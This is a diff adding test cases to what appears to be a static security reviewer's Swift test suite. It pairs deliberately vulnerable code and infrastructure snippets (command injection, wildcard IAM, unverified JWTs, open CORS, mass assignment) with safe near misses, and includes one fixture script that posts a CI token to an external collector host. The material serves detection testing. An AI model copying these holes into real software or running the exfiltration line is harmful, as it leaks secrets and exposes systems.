@@ -3198,6 +3198,233 @@ import Testing
     ])
     func batchFortyFourClasses(_ example: Example) { Self.check(example) }
 
+    /// Classes mended from blind batch 45 (static-31), each with a near miss that is no finding.
+    @Test(arguments: [
+        Example(
+            "src/main/java/app/SecurityConfig.java",
+            "class SecurityConfig {\n    SecurityFilterChain chain(HttpSecurity http) throws Exception {\n"
+                + "        http.authorizeHttpRequests(auth -> auth\n"
+                + "            .requestMatchers(EndpointRequest.toAnyEndpoint().excluding(\"shutdown\")).permitAll()\n"
+                + "            .anyRequest().authenticated());\n        return http.build();\n    }\n}\n",
+            "infra.actuator-exposed"),
+        Example(
+            "src/main/java/app/SecurityConfig.java",
+            "class SecurityConfig {\n    SecurityFilterChain chain(HttpSecurity http) throws Exception {\n"
+                + "        http.authorizeHttpRequests(auth -> auth\n"
+                + "            .requestMatchers(EndpointRequest.to(HealthEndpoint.class)).permitAll()\n"
+                + "            .requestMatchers(EndpointRequest.toAnyEndpoint()).hasRole(\"OPS\")\n"
+                + "            .anyRequest().authenticated());\n        return http.build();\n    }\n}\n",
+            nil),
+        Example(
+            "src/main/java/app/JacksonConfig.java",
+            "class JacksonConfig {\n    Jackson2ObjectMapperBuilderCustomizer custom() {\n"
+                + "        return b -> b.postConfigurer(om -> om.activateDefaultTyping(\n"
+                + "            om.getPolymorphicTypeValidator(),\n            ObjectMapper.DefaultTyping.NON_FINAL));\n"
+                + "    }\n}\n",
+            "code.unsafe-deserialization"),
+        Example(
+            "src/main/java/app/JacksonConfig.java",
+            "class JacksonConfig {\n    Jackson2ObjectMapperBuilderCustomizer custom() {\n"
+                + "        return b -> b.postConfigurer(om -> om.activateDefaultTyping(\n"
+                + "            BasicPolymorphicTypeValidator.builder().allowIfSubType(\"com.acme.pricing.\").build(),\n"
+                + "            ObjectMapper.DefaultTyping.NON_FINAL));\n    }\n}\n",
+            nil),
+        Example(
+            "infra/iam/ci.tf",
+            "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    sid       = \"ManageRoles\"\n"
+                + "    actions   = [\"iam:*\"]\n    resources = [\"*\"]\n  }\n}\n",
+            "infra.iam-wildcard"),
+        Example(
+            "infra/iam/policy.json",
+            "{\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Action\": [\n        \"*\"\n      ],\n"
+                + "      \"Resource\": \"*\"\n    }\n  ]\n}\n",
+            "infra.iam-wildcard"),
+        Example(
+            "infra/iam/ci.tf",
+            "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    actions   = [\"s3:*\"]\n"
+                + "    resources = [\"*\"]\n  }\n  statement {\n    actions   = [\"iam:PassRole\"]\n"
+                + "    resources = [\"*\"]\n  }\n  statement {\n    effect    = \"Deny\"\n    actions   = [\"*\"]\n"
+                + "    resources = [\"*\"]\n  }\n}\n",
+            nil),
+        Example(
+            "infra/azure/nsg.tf",
+            "resource \"azurerm_network_security_group\" \"build\" {\n  security_rule {\n"
+                + "    # office egress IP keeps rotating\n    name                       = \"allow-ssh\"\n"
+                + "    direction                  = \"Inbound\"\n    access                     = \"Allow\"\n"
+                + "    destination_port_range     = \"22\"\n    source_address_prefix      = \"*\"\n  }\n}\n",
+            "infra.open-admin-port"),
+        Example(
+            "infra/aws/sg.tf",
+            "resource \"aws_security_group\" \"db\" {\n  ingress {\n    from_port   = 0\n    to_port     = 65535\n"
+                + "    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
+            "infra.open-admin-port"),
+        Example(
+            "infra/aws/sg.tf",
+            "resource \"aws_security_group\" \"lb\" {\n  ingress {\n    from_port   = 443\n    to_port     = 443\n"
+                + "    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n  egress {\n    from_port   = 0\n"
+                + "    to_port     = 0\n    protocol    = \"-1\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
+            nil),
+        Example(
+            "src/main/kotlin/plugins/Cors.kt",
+            "fun Application.configureCors() {\n    install(CORS) {\n"
+                + "        allowOrigins { origin -> origin.startsWith(\"https://\") }\n"
+                + "        allowCredentials = true\n    }\n}\n",
+            "code.cors-reflects-origin"),
+        Example(
+            "src/main/kotlin/plugins/Cors.kt",
+            "fun Application.configureCors() {\n    install(CORS) {\n"
+                + "        allowHost(\"portal.example.com\", schemes = listOf(\"https\"))\n"
+                + "        allowCredentials = true\n    }\n}\n",
+            nil),
+        Example(
+            "src/Api/Program.cs",
+            "static bool IsWellFormed(string origin) =>\n"
+                + "    Uri.TryCreate(origin, UriKind.Absolute, out var uri) && uri.Scheme == \"https\";\n"
+                + "builder.Services.AddCors(c => c.AddPolicy(\"p\", p => p\n    .SetIsOriginAllowed(IsWellFormed)\n"
+                + "    .AllowCredentials()));\n",
+            "code.cors-reflects-origin"),
+        Example(
+            "src/Api/Program.cs",
+            "static bool IsPartner(string origin) =>\n"
+                + "    Uri.TryCreate(origin, UriKind.Absolute, out var uri) && partnerHosts.Contains(uri.Host);\n"
+                + "builder.Services.AddCors(c => c.AddPolicy(\"p\", p => p\n    .SetIsOriginAllowed(IsPartner)\n"
+                + "    .AllowCredentials()));\n",
+            nil),
+        Example(
+            "deploy/Caddyfile",
+            "http://127.0.0.1:8099 {\n    bind 127.0.0.1\n    reverse_proxy https://127.0.0.1:9200 {\n"
+                + "        transport http {\n            tls_insecure_skip_verify\n        }\n    }\n}\n",
+            nil),
+        Example(
+            "deploy/Caddyfile",
+            "shop.example.com {\n    reverse_proxy https://search.internal:9200 {\n"
+                + "        transport http {\n            tls_insecure_skip_verify\n        }\n    }\n}\n",
+            "code.tls-verify-disabled"),
+        Example(
+            "ops/hooks/on-tag.sh",
+            "#!/usr/bin/env bash\npayload=$(cat)\nref=$(jq -r '.ref' <<<\"$payload\")\ntag=${ref#refs/tags/}\n"
+                + "sudo -u deploy bash -c \"git checkout refs/tags/$tag && make release VERSION=$tag\"\n",
+            "code.command-injection"),
+        Example(
+            "ops/hooks/on-tag.sh",
+            "#!/usr/bin/env bash\npayload=$(cat)\nref=$(jq -r '.ref' <<<\"$payload\")\ntag=${ref#refs/tags/}\n"
+                + "sudo -u deploy bash -c 'git checkout \"refs/tags/$1\" && make release VERSION=\"$1\"' _ \"$tag\"\n",
+            nil),
+        Example(
+            "scripts/publish.sh",
+            "#!/usr/bin/env bash\nhdr=$(mktemp)\nprintf 'Authorization: Bearer %s\\n' \"$ARTIFACTS_TOKEN\" >\"$hdr\"\n"
+                + "for f in dist/*; do\n  curl --fail -H @\"$hdr\" --upload-file \"$f\" \"$REGISTRY_URL/$f\"\ndone\n",
+            nil),
+        Example(
+            "scripts/publish.sh",
+            "#!/usr/bin/env bash\nout=$(mktemp)\nprintf 'token=%s\\n' \"$ARTIFACTS_TOKEN\" >\"$out\"\n"
+                + "for f in dist/*; do\n  curl --fail --data-binary @\"$out\" https://collector.example.net/in\ndone\n",
+            "ci.secrets-exfiltration"),
+        Example(
+            "Sources/App/Controllers/ProfileController.swift",
+            "struct ProfileController {\n    func update(req: Request) async throws -> User.Public {\n"
+                + "        let user = try req.auth.require(User.self)\n"
+                + "        let patch = try req.content.decode(UpdateProfile.self)\n"
+                + "        if let role = patch.role { user.role = role }\n        try await user.save(on: req.db)\n"
+                + "        return try user.asPublic()\n    }\n}\n",
+            "code.mass-assignment"),
+        Example(
+            "Sources/App/Controllers/AdminUserController.swift",
+            "struct AdminUserController {\n    func update(req: Request) async throws -> User.Public {\n"
+                + "        guard try req.auth.require(User.self).isAdmin else { throw Abort(.forbidden) }\n"
+                + "        let user = try await User.find(req.parameters.get(\"id\"), on: req.db)!\n"
+                + "        let patch = try req.content.decode(UpdateProfile.self)\n"
+                + "        if let role = patch.role { user.role = role }\n        try await user.save(on: req.db)\n"
+                + "        return try user.asPublic()\n    }\n}\n",
+            nil),
+        Example(
+            "accounts/api/serializers.py",
+            "class MeSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n"
+                + "        exclude = [\"password\", \"groups\"]\n        read_only_fields = [\"id\", \"email\"]\n",
+            "code.mass-assignment"),
+        Example(
+            "accounts/api/serializers.py",
+            "class MeSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n"
+                + "        fields = [\"id\", \"email\", \"first_name\"]\n"
+                + "        read_only_fields = [\"id\", \"email\"]\n"
+                + "\n\nclass ProductSerializer(serializers.ModelSerializer):\n    class Meta:\n"
+                + "        model = Product\n"
+                + "        exclude = [\"internal_notes\"]\n",
+            nil),
+        Example(
+            "src/middleware/requireUser.ts",
+            "function ssoClaims(token: string): JwtPayload | null {\n"
+                + "  const decoded = jwt.decode(token, { complete: true });\n"
+                + "  if (!decoded || decoded.header.alg !== \"RS256\") return null;\n"
+                + "  const payload = decoded.payload as JwtPayload;\n"
+                + "  return payload.iss === env.SSO_ISSUER ? payload : null;\n}\n\n"
+                + "export async function requireUser(req: Request, res: Response, next: NextFunction) {\n"
+                + "  const token = req.headers.authorization?.slice(7) ?? \"\";\n"
+                + "  let claims: JwtPayload | null = ssoClaims(token);\n  if (!claims) {\n"
+                + "    claims = jwt.verify(token, env.JWT_SECRET, { algorithms: [\"HS256\"] }) as JwtPayload;\n  }\n"
+                + "  const user = await findUserById(String(claims.sub));\n  req.user = user;\n  return next();\n}\n",
+            "code.jwt-unverified"),
+        Example(
+            "src/middleware/requireUser.ts",
+            "export async function requireUser(req: Request, res: Response, next: NextFunction) {\n"
+                + "  const token = req.headers.authorization?.slice(7) ?? \"\";\n"
+                + "  const decoded = jwt.decode(token, { complete: true });\n"
+                + "  const key = await jwks.getSigningKey(decoded?.header.kid);\n"
+                + "  const claims = jwt.verify(token, key.getPublicKey(), { algorithms: [\"RS256\"] }) as JwtPayload;\n"
+                + "  req.user = await findUserById(String(claims.sub));\n  return next();\n}\n",
+            nil),
+    ])
+    func batchFortyFiveClasses(_ example: Example) { Self.check(example) }
+
+    /// A change that takes away what scoped or guarded a thing that stays: nginx's allow-list and password dropped
+    /// from a location, a lookup's owner dropped from a query, Nest's class-level roles spread to some handlers. The
+    /// same protection moved, kept in another form, or given to every handler is no finding.
+    @Test func protectionTakenFromWhatStays() {
+        let location = { (protection: String) in
+            "server {\n    listen 443 ssl;\n" + protection + "    location /ops/ {\n"
+                + "        proxy_pass http://ops_panel/;\n    }\n}\n"
+        }
+        let guarded = "    allow 10.40.0.0/16;\n    deny  all;\n    auth_basic \"ops\";\n"
+        let nginx = "deploy/nginx/app.conf"
+        let gormFunction = { (query: String) in
+            "package billing\n\nfunc (r *Repo) Get(ctx context.Context, accountID, id uint) (*Invoice, error) {\n"
+                + "\tvar inv Invoice\n\terr := r.db.WithContext(ctx).\n" + query + "\t\tFirst(&inv, id).Error\n"
+                + "\treturn &inv, err\n}\n"
+        }
+        let scoped = gormFunction("\t\tWhere(\"account_id = ?\", accountID).\n")
+        let gorm = "internal/billing/repo.go"
+        let nest = { (listRoles: String, exportRoles: String) in
+            "@Controller('admin/users')\n@UseGuards(RolesGuard)\nexport class AdminUsersController {\n  @Get()\n"
+                + listRoles + "  list() {\n    return this.users.list();\n  }\n\n  @Get('export.csv')\n" + exportRoles
+                + "  exportCsv() {\n    return this.users.exportCsv();\n  }\n}\n"
+        }
+        let nestBefore =
+            "@Controller('admin/users')\n@UseGuards(RolesGuard)\n@Roles('admin')\nexport class AdminUsersController {\n"
+            + "  @Get()\n  list() {\n    return this.users.list();\n  }\n\n  @Get('export.csv')\n"
+            + "  exportCsv() {\n    return this.users.exportCsv();\n  }\n}\n"
+        let controller = "src/admin/admin-users.controller.ts"
+        let changes = [
+            ReviewCase("nginx", nginx, before: location(guarded), location(""), risky: true),
+            ReviewCase(
+                "nginx", nginx, before: location(guarded), location("    auth_request /validate;\n"), risky: false),
+            ReviewCase(
+                "nginx", nginx,
+                before: location(guarded) + "server {\n    location /legacy/ {\n" + guarded + "    }\n}\n",
+                location(guarded), risky: false),
+            ReviewCase("gorm", gorm, before: scoped, gormFunction(""), risky: true),
+            ReviewCase(
+                "gorm", gorm, before: scoped,
+                gormFunction("\t\tWhere(&Invoice{AccountID: accountID}).\n"), risky: false),
+            ReviewCase("nest", controller, before: nestBefore, nest("  @Roles('admin', 'support')\n", ""), risky: true),
+            ReviewCase(
+                "nest", controller, before: nestBefore,
+                nest("  @Roles('admin', 'support')\n", "  @Roles('admin')\n"), risky: false),
+        ]
+        for change in changes {
+            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
+        }
+    }
+
     /// A Nest controller's class guard moved onto its methods: a method left with only part of it is open to callers
     /// the class kept out; every method given all of it is guarded as before.
     @Test func classGuardMovedOntoMethods() {
